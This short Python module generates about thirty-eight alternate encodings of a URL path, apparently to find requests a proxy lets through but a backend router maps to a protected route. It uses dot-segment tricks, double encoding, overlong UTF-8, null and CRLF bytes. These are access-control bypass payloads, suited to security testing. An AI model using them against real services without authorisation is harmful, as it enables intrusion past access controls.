"""Other spellings of a path: what a proxy takes for something else, and a router for the same."""


def others(path: str) -> list[str]:
    """Twenty-odd of them; none is the path itself."""
    rest, first = path[1:], f"{ord(path[1]):02x}"
    every = "".join(f"%{ord(letter):02x}" for letter in rest)
    return [
        f"{path}/", f"{path}//", f"{path}%2f", f"{path}%2F", f"/{path}", f"//{path}", f"/.{path}", f"/%2e{path}",
        f"/x/..{path}", f"/x/%2e%2e{path}", f"/%{first}{rest[1:]}", f"/%{first.upper()}{rest[1:]}", f"/{every}",
        f"/%25{first}{rest[1:]}", f"%2f{rest}", f"/%2f{rest}", path.upper(), f"{path};x=y", f"{path}%00", f"{path}%20",
        f"{path}%0a", f"{path}.", f"{path}/.", f"/\\{rest}", f"{path}%3f", f"{path}%23",
        f"/%c0%ae{path}", f"/%u002f{rest}", f"{path}%09", f"{path}%3bx=y", f"/x%2f..{path}", f"/..{path}",
        f"/..%2f{rest}",
        f"/x/%252e%252e{path}", f"{path}%ff", f"{path}/..{path}/", f"{path}*", f"/%0d{path}",
    ]  # fmt: skip
